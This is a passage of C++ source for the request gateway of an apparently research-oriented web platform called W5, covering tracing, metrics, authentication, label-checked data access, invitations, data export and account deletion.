  exports_blocked_ = &metrics.counter("w5_exports_total{verdict=\"blocked\"}");
  deadline_exceeded_ = &metrics.counter("w5_deadline_exceeded_total");
  request_latency_ = &metrics.histogram("w5_request_latency_micros");
}

net::HttpResponse Gateway::handle(const net::HttpRequest& request) {
  // The W5_NO_TELEMETRY baseline must not pay for clock reads or header
  // stamping either — the whole plane compiles down to a bare dispatch.
  if constexpr (!util::kTelemetryEnabled) return router_.dispatch(request);
  // A validated inbound X-W5-Trace continues an upstream trace (federation
  // peers forward it); anything else mints a fresh id. The context is
  // thread-local-current for the duration, so spans recorded anywhere
  // below land in this request's trace.
  // Ablation escape hatch, read once: getenv scans the whole environment
  // block, which is too expensive to pay per request.
  static const bool bare_dispatch = getenv("W5_ABL_BARE") != nullptr;
  if (bare_dispatch) return router_.dispatch(request);
  const auto inherited = request.headers.get("X-W5-Trace");
  // X-W5-Sampled propagates the upstream sampling decision: "0" keeps an
  // inherited id from forcing spans on, "1" forces them on.
  RequestContext::Sampling sampling = RequestContext::Sampling::kInherit;
  if (const auto sampled = request.headers.get("X-W5-Sampled")) {
    if (*sampled == "0") sampling = RequestContext::Sampling::kOff;
    if (*sampled == "1") sampling = RequestContext::Sampling::kOn;
  }
  RequestContext context(inherited ? std::string_view(*inherited)
                                   : std::string_view{},
                         sampling);
  // The caller's span id (digits only) — recorded so the stitched tree
  // shows which upstream span this whole request hangs under.
  if (const auto parent = request.headers.get("X-W5-Parent")) {
    if (util::parse_u64(*parent)) context.set_parent_span(*parent);
  }
  // Deadline propagation (DESIGN.md §12): stamp the request's wall-clock
  // budget into the context at admission. A client X-W5-Deadline-Ms can
  // only tighten the provider default, never extend it.
  util::Micros budget = provider_.config().request_deadline_micros;
  if (const auto header = request.headers.get("X-W5-Deadline-Ms")) {
    if (const auto millis = util::parse_u64(*header);
        millis && *millis > 0) {
      const auto requested =
          static_cast<util::Micros>(*millis) * 1000;
      budget = budget > 0 ? std::min(budget, requested) : requested;
    }
  }
  if (budget > 0) {
    static const util::WallClock wall;
    context.set_deadline(wall.now() + budget);
  }
  requests_total_->inc();
  const std::string* pattern = nullptr;
  std::size_t route_index = net::Router::kNoRoute;
  net::HttpResponse response =
      router_.dispatch(request, &pattern, &route_index);
  switch (response.status / 100) {
    case 2: responses_2xx_->inc(); break;
    case 3: responses_3xx_->inc(); break;
    case 4: responses_4xx_->inc(); break;
    case 5: responses_5xx_->inc(); break;
    default: break;
  }
  if (pattern != nullptr) context.set_route(*pattern);
  if (route_index < route_hits_.size()) route_hits_[route_index]->inc();
  context.set_status(response.status);
  if (!context.id().empty())
    response.headers.set("X-W5-Trace", context.id());
  Trace trace = context.finish();  // stamps the total duration
  // Cross-hop stitching: a caller that forwarded its trace id gets this
  // request's span dump back in the response, offsets relative to our
  // request start (the caller rebases onto its own clock). Only for
  // inherited ids — a trace root has nobody to stitch into.
  if (context.inherited() && trace.sampled) {
    std::string wire = encode_spans_for_wire(trace);
    if (!wire.empty()) response.headers.set("X-W5-Spans", std::move(wire));
  }
  request_latency_->observe_with_exemplar(trace.duration, trace.id);
  if (const util::Micros slow_after = provider_.config().slow_request_micros;
      slow_after > 0 && trace.duration >= slow_after)
    provider_.flight_recorder().record(trace);
  provider_.traces().record(std::move(trace));
  return response;
}

std::string Gateway::viewer_of(const net::HttpRequest& request) {
  const auto cookie_header = request.headers.get("Cookie");
  if (!cookie_header) return "";
  const auto cookies = net::parse_cookie_header(*cookie_header);
  const auto token = net::cookie_get(cookies, kSessionCookie);
  if (!token) return "";
  return provider_.sessions().validate(*token).value_or("");
}

// ---- Platform endpoints -----------------------------------------------------

net::HttpResponse Gateway::route_signup(const net::HttpRequest& request) {
  auto params = net::parse_query(request.body);
  if (!params) return json_error(400, "malformed form body");
  const auto user = net::query_get(*params, "user");
  const auto password = net::query_get(*params, "password");
  if (!user || !password) return json_error(400, "user and password required");
  const auto name = net::query_get(*params, "name").value_or(*user);
  if (auto created = provider_.signup(*user, *password, name);
      !created.ok()) {
    provider_.audit().record(AuditKind::kAuthEvent, *user, "signup",
                             created.error().code);
    return json_error(400, created.error().code);
  }
  provider_.audit().record(AuditKind::kAuthEvent, *user, "signup", "ok");
  util::Json body;
  body["user"] = *user;
  return net::HttpResponse::json(201, body.dump());
}

net::HttpResponse Gateway::route_login(const net::HttpRequest& request) {
  auto params = net::parse_query(request.body);
  if (!params) return json_error(400, "malformed form body");
  const auto user = net::query_get(*params, "user");
  const auto password = net::query_get(*params, "password");
  if (!user || !password) return json_error(400, "user and password required");
  auto token = provider_.login(*user, *password);
  if (!token.ok()) {
    provider_.audit().record(AuditKind::kAuthEvent, *user, "login",
                             token.error().code);
    return json_error(401, token.error().code);
  }
  provider_.audit().record(AuditKind::kAuthEvent, *user, "login", "ok");
  net::HttpResponse response = net::HttpResponse::json(200, R"({"ok":true})");
  const net::SetCookie cookie{.name = kSessionCookie,
                              .value = token.value(),
                              .path = "/",
                              .max_age_seconds = -1,
                              .http_only = true};
  response.headers.add("Set-Cookie", cookie.to_header().value_or(""));
  return response;
}

net::HttpResponse Gateway::route_logout(const net::HttpRequest& request) {
  const auto cookie_header = request.headers.get("Cookie");
  if (cookie_header) {
    const auto cookies = net::parse_cookie_header(*cookie_header);
    if (const auto token = net::cookie_get(cookies, kSessionCookie))
      provider_.sessions().revoke(*token);
  }
  return net::HttpResponse::json(200, R"({"ok":true})");
}

net::HttpResponse Gateway::route_whoami(const net::HttpRequest& request) {
  util::Json body;
  const std::string viewer = viewer_of(request);
  body["user"] = viewer.empty() ? util::Json(nullptr) : util::Json(viewer);
  return net::HttpResponse::json(200, body.dump());
}

net::HttpResponse Gateway::route_get_policy(const net::HttpRequest& request) {
  const std::string viewer = viewer_of(request);
  if (viewer.empty()) return json_error(401, "login required");
  return net::HttpResponse::json(
      200, provider_.policies().get(viewer).to_json().dump());
}

net::HttpResponse Gateway::route_set_policy(const net::HttpRequest& request) {
  const std::string viewer = viewer_of(request);
  if (viewer.empty()) return json_error(401, "login required");
  auto parsed = util::Json::parse(request.body);
  if (!parsed.ok()) return json_error(400, "policy must be JSON");
  auto policy = UserPolicy::from_json(parsed.value());
  if (!policy.ok()) return json_error(400, policy.error().code);
  // The named declassifier must exist — a typo must not silently leave
  // data guarded by nothing.
  if (provider_.declassifiers().find(policy.value().secrecy_declassifier) ==
      nullptr) {
    return json_error(400, "unknown declassifier");
  }
  provider_.policies().set(viewer, std::move(policy).value());
  provider_.audit().record(AuditKind::kAdmin, viewer, "policy", "updated");
  return net::HttpResponse::json(200, R"({"ok":true})");
}

net::HttpResponse Gateway::route_list_apps(const net::HttpRequest&) {
  util::Json apps = util::Json::array();
  for (const Module* module : provider_.modules().all()) {
    util::Json entry;
    entry["id"] = module->id();
    entry["developer"] = module->developer;
    entry["name"] = module->name;
    entry["version"] = module->version;
    entry["open_source"] = module->manifest.open_source;
    entry["description"] = module->manifest.description;
    entry["fingerprint"] = module->fingerprint;
    if (!module->forked_from.empty())
      entry["forked_from"] = module->forked_from;
    apps.push_back(std::move(entry));
  }
  util::Json body;
  body["apps"] = std::move(apps);
  return net::HttpResponse::json(200, body.dump());
}

net::HttpResponse Gateway::route_stats(const net::HttpRequest&) {
  util::Json body;
  body["users"] = provider_.users().size();
  body["records"] = provider_.store().total_records();
  body["exports_allowed"] =
      provider_.audit().count(AuditKind::kExportAllowed);
  body["exports_blocked"] =
      provider_.audit().count(AuditKind::kExportBlocked);
  body["quota_kills"] = provider_.audit().count(AuditKind::kQuotaKill);
  return net::HttpResponse::json(200, body.dump());
}

net::HttpResponse Gateway::route_search(const net::HttpRequest& request) {
  // Reindex on demand: module registration is rare, searches rarer.
  provider_.search_service().reindex(provider_.modules());
  const std::string query =
      net::query_get(request.parsed.query, "q").value_or("");
  const auto limit = static_cast<std::size_t>(
      util::parse_i64(
          net::query_get(request.parsed.query, "n").value_or("10"))
          .value_or(10));
  return net::HttpResponse::json(
      200, provider_.search_service().search(query, limit).dump());
}

net::HttpResponse Gateway::route_fed_search(const net::HttpRequest& request) {
  // The "everywhere" view (DESIGN.md §18): one query fanned out to every
  // provider this user consented to mirror with, merged and ranked. The
  // gateway stays the perimeter — the local leg's label union passes the
  // export check below, and remote rows already crossed each peer's
  // mirror declassifier under this user's consent.
  const std::string viewer = viewer_of(request);
  if (viewer.empty()) return json_error(401, "login required");
  const FederatedSearchFn& search = provider_.federated_search();
  if (!search) return json_error(503, "fed.not_configured");

  FederatedQuery query;
  query.collection =
      net::query_get(request.parsed.query, "collection").value_or("photos");
  query.terms = net::query_get(request.parsed.query, "q").value_or("");
  query.eq_field =
      net::query_get(request.parsed.query, "eq_field").value_or("");
  query.eq_value =
      net::query_get(request.parsed.query, "eq_value").value_or("");
  query.facets = util::split_nonempty(
      net::query_get(request.parsed.query, "facets").value_or(""), ',');
  query.cursor = net::query_get(request.parsed.query, "cursor").value_or("");
  query.principal = "frontend:" + viewer;
  query.limit = 20;
  if (const auto raw = net::query_get(request.parsed.query, "limit")) {
    char* end = nullptr;
    const long parsed = std::strtol(raw->c_str(), &end, 10);
    if (end != raw->c_str() + raw->size() || parsed < 1 || parsed > 200)
      return json_error(400, "limit must be in [1,200]");
    query.limit = static_cast<std::size_t>(parsed);
  }

  auto page = search(os::kKernelPid, viewer, query);
  if (!page.ok()) {
    const std::string& code = page.error().code;
    return json_error(
        code == "fed.bad_cursor" || code == "fed.bad_query" ? 400 : 403,
        code);
  }
  auto response = net::HttpResponse::json(200, page.value().body.dump());
  // Degradation is explicit, never silent: a page missing any peer says
  // so in a header the UI (and the chaos tests) can key off.
  if (page.value().partial) response.headers.set("X-W5-Fed-Partial", "1");
  return export_response(std::move(response), page.value().secrecy, viewer,
                         "fed/metasearch");
}

net::HttpResponse Gateway::route_developers(const net::HttpRequest&) {
  provider_.search_service().reindex(provider_.modules());
  util::Json body;
  body["reputation"] = provider_.search_service().developer_reputations();
  return net::HttpResponse::json(200, body.dump());
}

net::HttpResponse Gateway::route_audit(const net::HttpRequest& request) {
  // Recent security decisions, scrubbed by construction: the audit log
  // holds codes, principals, and label *names* only. The tail query
  // copies one page, not the whole log (?n= page size, ?since= micros
  // cutoff for incremental pulls).
  const auto limit = static_cast<std::size_t>(
      util::parse_i64(
          net::query_get(request.parsed.query, "n").value_or("20"))
          .value_or(20));
  const util::Micros since =
      util::parse_i64(
          net::query_get(request.parsed.query, "since").value_or("0"))
          .value_or(0);
  const auto events = provider_.audit().events(limit, since);
  util::Json items = util::Json::array();
  for (const AuditEvent& event : events) {
    util::Json entry;
    entry["at"] = event.at;
    entry["kind"] = to_string(event.kind);
    entry["actor"] = event.actor;
    entry["subject"] = event.subject;
    entry["detail"] = event.detail;
    if (!event.trace.empty()) entry["trace"] = event.trace;
    items.push_back(std::move(entry));
  }
  util::Json body;
  body["events"] = std::move(items);
  body["total"] = provider_.audit().size();
  return net::HttpResponse::json(200, body.dump());
}

net::HttpResponse Gateway::route_metrics(const net::HttpRequest& request) {
  refresh_runtime_gauges();
  if (net::query_get(request.parsed.query, "format").value_or("") == "json")
    return net::HttpResponse::json(200,
                                   provider_.metrics().to_json().dump());
  net::HttpResponse response =
      net::HttpResponse::text(200, provider_.metrics().to_prometheus());
  response.headers.set("Content-Type", "text/plain; version=0.0.4");
  return response;
}

net::HttpResponse Gateway::route_trace(const net::HttpRequest&,
                                       const net::RouteParams& params) {
  Trace trace;
  switch (provider_.traces().lookup(params.at("id"), &trace)) {
    case TraceBuffer::Lookup::kFound:
      return net::HttpResponse::json(200, trace.to_json().dump());
    case TraceBuffer::Lookup::kEvicted:
      // The id was real but the ring has recycled its slot: "gone", not
      // "never existed" — callers chasing an exemplar can tell a stale
      // pointer from a bogus one.
      return net::HttpResponse::text(204, "");
    case TraceBuffer::Lookup::kUnknown:
      break;
  }
  return json_error(404, "no such trace");
}

net::HttpResponse Gateway::route_statusz(const net::HttpRequest&) {
  refresh_runtime_gauges();  // breaker/pool gauges feed the page
  return net::HttpResponse::json(200, build_statusz(provider_).dump());
}

net::HttpResponse Gateway::route_slowlog(const net::HttpRequest&) {
  util::Json body = provider_.flight_recorder().to_json();
  body["threshold_micros"] = provider_.config().slow_request_micros;
  return net::HttpResponse::json(200, body.dump());
}

void Gateway::refresh_runtime_gauges() {
  const auto as_i64 = [](auto v) { return static_cast<std::int64_t>(v); };
  util::MetricsRegistry& metrics = provider_.metrics();

  const auto ops = provider_.store().op_counts();
  metrics.gauge("w5_store_ops{op=\"get\"}").set(as_i64(ops.gets));
  metrics.gauge("w5_store_ops{op=\"put\"}").set(as_i64(ops.puts));
  metrics.gauge("w5_store_ops{op=\"remove\"}").set(as_i64(ops.removes));
  metrics.gauge("w5_store_ops{op=\"scan\"}").set(as_i64(ops.scans));
  const auto shard_ops = provider_.store().shard_op_counts();
  for (std::size_t i = 0; i < shard_ops.size(); ++i) {
    metrics.gauge("w5_store_shard_ops{shard=\"" + std::to_string(i) + "\"}")
        .set(as_i64(shard_ops[i]));
  }
  metrics.gauge("w5_store_records").set(as_i64(
      provider_.store().total_records()));

  // Query engine + §3.5 governor (DESIGN.md §17); sourced from the
  // record-free QueryEngineStats struct.
  const auto query = provider_.store().query_stats();
  metrics.gauge("w5_store_plans{path=\"field\"}").set(as_i64(query.plans_field));
  metrics.gauge("w5_store_plans{path=\"owner\"}").set(as_i64(query.plans_owner));
  metrics.gauge("w5_store_plans{path=\"scan\"}").set(as_i64(query.plans_scan));
  metrics.gauge("w5_store_label_groups{verdict=\"checked\"}")
      .set(as_i64(query.label_groups_checked));
  metrics.gauge("w5_store_label_groups{verdict=\"skipped\"}")
      .set(as_i64(query.label_groups_skipped));
  metrics.gauge("w5_store_cursor_resumes").set(as_i64(query.cursor_resumes));
  metrics.gauge("w5_store_indexes").set(as_i64(query.registered_indexes));
  metrics.gauge("w5_store_postings{family=\"field\"}")
      .set(as_i64(query.field_postings));
  metrics.gauge("w5_store_postings{family=\"label\"}")
      .set(as_i64(query.label_postings));
  metrics.gauge("w5_store_postings{family=\"owner\"}")
      .set(as_i64(query.owner_postings));
  metrics.gauge("w5_store_queries{verdict=\"admitted\"}")
      .set(as_i64(query.queries_admitted));
  metrics.gauge("w5_store_queries{verdict=\"denied\"}")
      .set(as_i64(query.queries_denied));

  // pool_if_started(): a scrape must never spawn the worker pool.
  if (os::ThreadPool* pool = provider_.pool_if_started()) {
    metrics.gauge("w5_pool_workers").set(as_i64(pool->size()));
    metrics.gauge("w5_pool_active").set(as_i64(pool->active()));
    metrics.gauge("w5_pool_queue_depth").set(as_i64(pool->pending()));
    metrics.gauge("w5_pool_max_queue_depth")
        .set(as_i64(pool->max_queue_depth()));
    metrics.gauge("w5_pool_jobs_submitted")
        .set(as_i64(pool->jobs_submitted()));
    metrics.gauge("w5_pool_jobs_completed")
        .set(as_i64(pool->jobs_completed()));
    metrics.gauge("w5_pool_jobs_rejected")
        .set(as_i64(pool->jobs_rejected()));
    metrics.gauge("w5_pool_queue_limit").set(as_i64(pool->queue_limit()));
  }

  // serve()'s robustness counters (DESIGN.md §12): slow-client reaping,
  // load shedding, and oversize rejections at the front door.
  const net::ServerStats& net_stats = provider_.server_stats();
  metrics.gauge("w5_net_io_timeouts")
      .set(as_i64(net_stats.timeouts_total.load()));
  metrics.gauge("w5_net_connections_reaped")
      .set(as_i64(net_stats.reaped_total.load()));
  metrics.gauge("w5_net_connections_shed")
      .set(as_i64(net_stats.shed_total.load()));
  metrics.gauge("w5_net_requests_handled")
      .set(as_i64(net_stats.handled_total.load()));
  metrics.gauge("w5_net_rejected{status=\"413\"}")
      .set(as_i64(net_stats.rejected_413_total.load()));
  metrics.gauge("w5_net_rejected{status=\"431\"}")
      .set(as_i64(net_stats.rejected_431_total.load()));

  // Connection-plane telemetry (DESIGN.md §15): live open/idle levels
  // plus lifetime accept/timeout/reset totals, from either serving mode.
  const net::ConnStats& conn_stats = provider_.conn_stats();
  metrics.gauge("w5_net_open_connections").set(conn_stats.open.load());
  metrics.gauge("w5_net_idle_connections").set(conn_stats.idle.load());
  metrics.gauge("w5_net_connections_accepted")
      .set(as_i64(conn_stats.accepted_total.load()));
  metrics.gauge("w5_net_timeout_closes")
      .set(as_i64(conn_stats.timeout_closes_total.load()));
  metrics.gauge("w5_net_connection_resets")
      .set(as_i64(conn_stats.reset_total.load()));

  const difc::FlowCache& cache = difc::FlowCache::instance();
  metrics.gauge("w5_flow_cache_hits").set(as_i64(cache.hits()));
  metrics.gauge("w5_flow_cache_misses").set(as_i64(cache.misses()));
  metrics.gauge("w5_flow_cache_invalidations")
      .set(as_i64(cache.invalidations()));
  metrics.gauge("w5_flow_cache_size").set(as_i64(cache.size()));
  metrics.gauge("w5_label_table_size")
      .set(as_i64(difc::LabelTable::instance().size()));
  metrics.gauge("w5_label_table_epoch")
      .set(as_i64(difc::LabelTable::instance().epoch()));

  metrics.gauge("w5_audit_events_retained")
      .set(as_i64(provider_.audit().size()));
  metrics.gauge("w5_audit_events_dropped")
      .set(as_i64(provider_.audit().dropped()));
  metrics.gauge("w5_traces_recorded").set(as_i64(
      provider_.traces().recorded()));
  metrics.gauge("w5_traces_retained").set(as_i64(provider_.traces().size()));
  // Monotonic total, exported as a gauge the same way the other lifetime
  // counts above are: the source atomic is the truth, the gauge a mirror.
  metrics.gauge("w5_trace_dropped_total")
      .set(as_i64(provider_.traces().dropped()));
  metrics.gauge("w5_slowlog_recorded")
      .set(as_i64(provider_.flight_recorder().recorded()));
  metrics.gauge("w5_users").set(as_i64(provider_.users().size()));
}

// ---- Invitations (§1: "a prospective user can sign up simply by
// checking a box or 'accepting an invitation'"; §2: forking developers
// get "a pool of users (who need only check a box on a form to begin
// using the modified application)"). An invitation is a pending grant;
// accepting it applies the module's write grant to the user's policy in
// one POST — the entire adoption cost of a new application.

net::HttpResponse Gateway::route_invite(const net::HttpRequest& request) {
  const std::string from = viewer_of(request);
  if (from.empty()) return json_error(401, "login required");
  auto params = net::parse_query(request.body);
  if (!params) return json_error(400, "malformed form body");
  const auto to = net::query_get(*params, "to");
  const auto app = net::query_get(*params, "app");
  if (!to || !app) return json_error(400, "to and app required");
  if (provider_.users().find(*to) == nullptr)
    return json_error(404, "no such user");
  // Validate the module path exists (any version).
  const auto slash = app->find('/');
  if (slash == std::string::npos ||
      provider_.modules().resolve(app->substr(0, slash),
                                  app->substr(slash + 1)) == nullptr) {
    return json_error(404, "no such application");
  }
  // The invitation is the invitee's data: labeled for them, written by
  // the trusted front-end.
  const UserAccount* invitee = provider_.users().find(*to);
  store::Record record;
  record.collection = "invitations";
  record.id = *to + ":" + *app;
  record.owner = *to;
  record.labels =
      difc::ObjectLabels{difc::Label{invitee->secrecy_tag},
                         difc::Label{invitee->write_tag}};
  record.data["app"] = *app;
  record.data["from"] = from;
  record.data["accepted"] = false;
  const os::Pid pid = provider_.kernel().spawn_trusted(
      "frontend:invite",
      difc::LabelState({invitee->secrecy_tag}, {invitee->write_tag}, {}));
  auto status = provider_.store().put(pid, std::move(record));
  (void)provider_.kernel().exit(pid);
  provider_.kernel().reap(pid);
  if (!status.ok()) return json_error(403, status.error().code);
  provider_.audit().record(AuditKind::kAdmin, from, "invite",
                           *to + " -> " + *app);
  return net::HttpResponse::json(201, R"({"ok":true})");
}

net::HttpResponse Gateway::route_invitations(
    const net::HttpRequest& request) {
  const std::string viewer = viewer_of(request);
  if (viewer.empty()) return json_error(401, "login required");
  auto records = provider_.store().query(
      os::kKernelPid, "invitations",
      store::QueryOptions{.owner = viewer});
  util::Json items = util::Json::array();
  if (records.ok()) {
    for (const auto& record : records.value()) {
      util::Json entry;
      entry["app"] = record.data.at("app");
      entry["from"] = record.data.at("from");
      entry["accepted"] = record.data.at("accepted");
      items.push_back(std::move(entry));
    }
  }
  util::Json body;
  body["invitations"] = std::move(items);
  return net::HttpResponse::json(200, body.dump());
}

net::HttpResponse Gateway::route_accept(const net::HttpRequest& request) {
  const std::string viewer = viewer_of(request);
  if (viewer.empty()) return json_error(401, "login required");
  auto params = net::parse_query(request.body);
  if (!params) return json_error(400, "malformed form body");
  const auto app = net::query_get(*params, "app");
  if (!app) return json_error(400, "app required");
  auto record = provider_.store().get(os::kKernelPid, "invitations",
                                      viewer + ":" + *app);
  if (!record.ok()) return json_error(404, "no such invitation");

  // "Checking the box": one policy update, no data moves.
  UserPolicy policy = provider_.policies().get(viewer);
  if (!policy.grants_write(*app)) policy.write_grants.push_back(*app);
  provider_.policies().set(viewer, std::move(policy));

  record.value().data["accepted"] = true;
  const UserAccount* account = provider_.users().find(viewer);
  const os::Pid pid = provider_.kernel().spawn_trusted(
      "frontend:accept",
      difc::LabelState({account->secrecy_tag}, {account->write_tag}, {}));
  (void)provider_.store().put(pid, record.value());
  (void)provider_.kernel().exit(pid);
  provider_.kernel().reap(pid);
  provider_.audit().record(AuditKind::kAdmin, viewer, "accept", *app);
  return net::HttpResponse::json(200, R"({"ok":true})");
}

net::HttpResponse Gateway::route_endorse(const net::HttpRequest& request) {
  // §3.2 editors: any logged-in user may vet software; their weight in
  // search accrues only as users actually adopt what they endorse.
  const std::string editor = viewer_of(request);
  if (editor.empty()) return json_error(401, "login required");
  auto params = net::parse_query(request.body);
  if (!params) return json_error(400, "malformed form body");
  const auto app = net::query_get(*params, "app");
  if (!app) return json_error(400, "app required");
  if (provider_.modules().resolve_id(*app) == nullptr)
    return json_error(404, "no such module");
  double confidence = 1.0;
  if (const auto raw = net::query_get(*params, "confidence")) {
    char* end = nullptr;
    confidence = std::strtod(raw->c_str(), &end);
    if (end != raw->c_str() + raw->size() || confidence <= 0 ||
        confidence > 1) {
      return json_error(400, "confidence must be in (0,1]");
    }
  }
  provider_.search_service().endorse(editor, *app, confidence);
  provider_.audit().record(AuditKind::kAdmin, editor, "endorse", *app);
  return net::HttpResponse::json(200, R"({"ok":true})");
}

// ---- Data portability (§1: today "a new photo sharing application would
// require a user to retrieve her collection from an existing provider and
// upload it to the new one" — and providers make even that hard). On W5
// the user's data is theirs: one request exports all of it (to its owner,
// through the ordinary perimeter rules), and one request deletes the
// account and every record it owns.

net::HttpResponse Gateway::route_export(const net::HttpRequest& request) {
  const std::string viewer = viewer_of(request);
  if (viewer.empty()) return json_error(401, "login required");

  // Gather everything the viewer owns, across all collections; each
  // record still passes the export check (owner → owner always passes
  // the boilerplate policy; an idiosyncratic declassifier could refuse).
  util::Json records = util::Json::array();
  difc::Label combined;
  // Collections are not enumerable via the app API by design; the
  // trusted front-end may scan (it is inside the TCB).
  for (const auto& record :
       provider_.store().export_owned_by(viewer)) {
    util::Json entry;
    entry["collection"] = record.collection;
    entry["id"] = record.id;
    entry["data"] = record.data;
    entry["version"] = record.version;
    records.push_back(std::move(entry));
    combined = combined.union_with(record.labels.secrecy);
  }
  util::Json body;
  body["user"] = viewer;
  body["records"] = std::move(records);
  auto response = net::HttpResponse::json(200, body.dump());
  return export_response(std::move(response), combined, viewer,
                         "platform/export");
}

net::HttpResponse Gateway::route_delete_account(
    const net::HttpRequest& request) {
  const std::string viewer = viewer_of(request);
  if (viewer.empty()) return json_error(401, "login required");
  const UserAccount* account = provider_.users().find(viewer);
  if (account == nullptr) return json_error(404, "no such account");

  // Delete every record the user owns (trusted path endorsed as them).
  std::size_t removed = 0;
  for (const auto& record : provider_.store().export_owned_by(viewer)) {
    const os::Pid pid = provider_.kernel().spawn_trusted(
        "frontend:delete-account:" + viewer,
        difc::LabelState({account->secrecy_tag}, {account->write_tag},
                         difc::CapabilitySet{
                             difc::plus(account->read_tag)}));
    if (provider_.store().remove(pid, record.collection, record.id).ok())
      ++removed;
    (void)provider_.kernel().exit(pid);
    provider_.kernel().reap(pid);
  }
  provider_.sessions().revoke_all(viewer);
  provider_.users().remove(viewer);
  provider_.audit().record(AuditKind::kAdmin, viewer, "account-deleted",
                           std::to_string(removed) + " records removed");
  util::Json body;
  body["deleted_records"] = removed;
  return net::HttpResponse::json(200, body.dump());
}

net::HttpResponse Gateway::route_dev_stats(const net::HttpRequest& request) {
  // §3.5 Debugging: "developers need to get some information when their
  // applications malfunction" — without core dumps that would expose
  // users' data. The audit log records failures as scrubbed events
  // (exception type / error code only); this endpoint aggregates them
  // per module for the developer.
  const std::string module_id =
      net::query_get(request.parsed.query, "app").value_or("");
  if (module_id.empty()) return json_error(400, "app parameter required");
  std::size_t errors = 0;
  std::size_t quota_kills = 0;
  std::size_t exports_blocked = 0;
  std::string last_error;
  for (const auto& event : provider_.audit().events()) {
    if (event.actor != module_id) continue;
    switch (event.kind) {
      case AuditKind::kAppError:
        ++errors;
        last_error = event.detail;  // exception type name only
        break;
      case AuditKind::kQuotaKill:
        ++quota_kills;
        break;
      case AuditKind::kExportBlocked:
        ++exports_blocked;
        break;
      default:
        break;
    }
  }
  util::Json body;
  body["app"] = module_id;
  body["errors"] = errors;
  body["quota_kills"] = quota_kills;
  body["exports_blocked"] = exports_blocked;
  body["last_error_type"] = last_error;
  return net::HttpResponse::json(200, body.dump());
}

net::HttpResponse Gateway::route_put_data(const net::HttpRequest& request,
                                          const net::RouteParams& params) {
  const std::string viewer = viewer_of(request);
  if (viewer.empty()) return json_error(401, "login required");
  const UserAccount* account = provider_.users().find(viewer);
  auto data = util::Json::parse(request.body);
  if (!data.ok()) return json_error(400, "body must be JSON");

  const std::string& collection = params.at("collection");
  store::Record record;
  record.collection = collection;
  record.id = params.at("id");
  record.owner = viewer;
  record.data = std::move(data).value();
  difc::Label secrecy{account->secrecy_tag};
  if (provider_.policies().get(viewer).is_private_collection(collection))
    secrecy = secrecy.with(account->read_tag);
  record.labels =
      difc::ObjectLabels{secrecy, difc::Label{account->write_tag}};

  // Uploading your own data is provider-written trusted code (§2), but
  // overwriting an existing record still honors its labels: spawn a
  // process endorsed as the user rather than using raw kernel authority.
  const os::Pid pid = provider_.kernel().spawn_trusted(
      "frontend:put-data:" + viewer,
      difc::LabelState({account->secrecy_tag}, {account->write_tag}, {}));
  // No span here: the "POST /data/:collection/:id" route pattern already
  // names this store write, and the direct data path is the hot path.
  // Store spans live in AppContext, where attribution is ambiguous.
  util::Status status = provider_.store().put(pid, std::move(record));
  (void)provider_.kernel().exit(pid);
  provider_.kernel().reap(pid);
  if (!status.ok()) {
    provider_.audit().record(AuditKind::kFlowDenied, viewer,
                             collection + "/" + params.at("id"),
                             status.error().code);
    return json_error(403, status.error().code);
  }
  return net::HttpResponse::json(201, R"({"ok":true})");
}

net::HttpResponse Gateway::route_get_data(const net::HttpRequest& request,
                                          const net::RouteParams& params) {
  const std::string viewer = viewer_of(request);
  // Trusted read, then the data must still pass the perimeter to reach
  // the viewer's browser — same rule as any app response.
  // No span: the route pattern already names this read (see route_put_data).
  auto record = provider_.store().get(os::kKernelPid, params.at("collection"),
                                      params.at("id"));
  if (!record.ok()) return json_error(404, record.error().code);
  auto response =
      net::HttpResponse::json(200, record.value().data.dump());
  return export_response(std::move(response),
                         record.value().labels.secrecy, viewer,
                         "platform/data-read");
}

net::HttpResponse Gateway::route_list_data(const net::HttpRequest& request,
                                           const net::RouteParams& params) {
  const std::string viewer = viewer_of(request);
  if (viewer.empty()) return json_error(401, "login required");
  store::QueryOptions options;
  options.owner = viewer;  // the front-end lists *your* rows
  options.principal = "frontend:" + viewer;
  options.cursor =
      net::query_get(request.parsed.query, "cursor").value_or("");
  options.limit = 50;
  if (const auto raw = net::query_get(request.parsed.query, "limit")) {
    char* end = nullptr;
    const long parsed = std::strtol(raw->c_str(), &end, 10);
    if (end != raw->c_str() + raw->size() || parsed < 1 || parsed > 200)
      return json_error(400, "limit must be in [1,200]");
    options.limit = static_cast<std::size_t>(parsed);
  }
  // Trusted read (owner-scoped), then the page must still pass the
  // perimeter to reach the viewer's browser — same rule as single reads.
  auto page = provider_.store().query_page(os::kKernelPid,
                                           params.at("collection"), options);
  if (!page.ok()) {
    return json_error(
        page.error().code == "store.bad_cursor" ? 400 : 403,
        page.error().code);
  }
  difc::Label combined;
  util::Json items = util::Json::array();
  for (const auto& record : page.value().records) {
    combined = combined.union_with(record.labels.secrecy);
    util::Json entry;
    entry["id"] = record.id;
    entry["data"] = record.data;
    items.push_back(std::move(entry));
  }
  util::Json body;
  body["items"] = std::move(items);
  body["next_cursor"] = page.value().next_cursor;
  auto response = net::HttpResponse::json(200, body.dump());
  return export_response(std::move(response), combined, viewer,
                         "platform/data-read");
}

net::HttpResponse Gateway::route_delete_data(const net::HttpRequest& request,
                                             const net::RouteParams& params) {
  const std::string viewer = viewer_of(request);
  if (viewer.empty()) return json_error(401, "login required");
  const UserAccount* account = provider_.users().find(viewer);
  const os::Pid pid = provider_.kernel().spawn_trusted(
      "frontend:delete-data:" + viewer,
      difc::LabelState({account->secrecy_tag}, {account->write_tag},
                       difc::CapabilitySet{difc::plus(account->read_tag)}));
  auto status = provider_.store().remove(pid, params.at("collection"),
                                         params.at("id"));
  (void)provider_.kernel().exit(pid);
  provider_.kernel().reap(pid);
  if (!status.ok()) return json_error(403, status.error().code);
  return net::HttpResponse::json(200, R"({"ok":true})");
}

// ---- Application invocation --------------------------------------------------

bool Gateway::module_components_trusted(const Module& module,
                                        const UserPolicy& policy) const {
  if (policy.trusted_fingerprints.empty()) return true;  // feature off
  const auto trusted = [&](const std::string& fingerprint) {
    return std::find(policy.trusted_fingerprints.begin(),
                     policy.trusted_fingerprints.end(),
                     fingerprint) != policy.trusted_fingerprints.end();
  };
  if (!trusted(module.fingerprint)) return false;
  for (const auto& import_id : module.manifest.imports) {
    const Module* component = provider_.modules().resolve_id(import_id);
    // A missing or unaudited component fails closed.
    if (component == nullptr || !trusted(component->fingerprint))
      return false;
  }
  return true;
}

net::HttpResponse Gateway::route_app(const net::HttpRequest& request,
                                     const net::RouteParams& params) {
  // Deadline check before spawning a labeled process: a request that
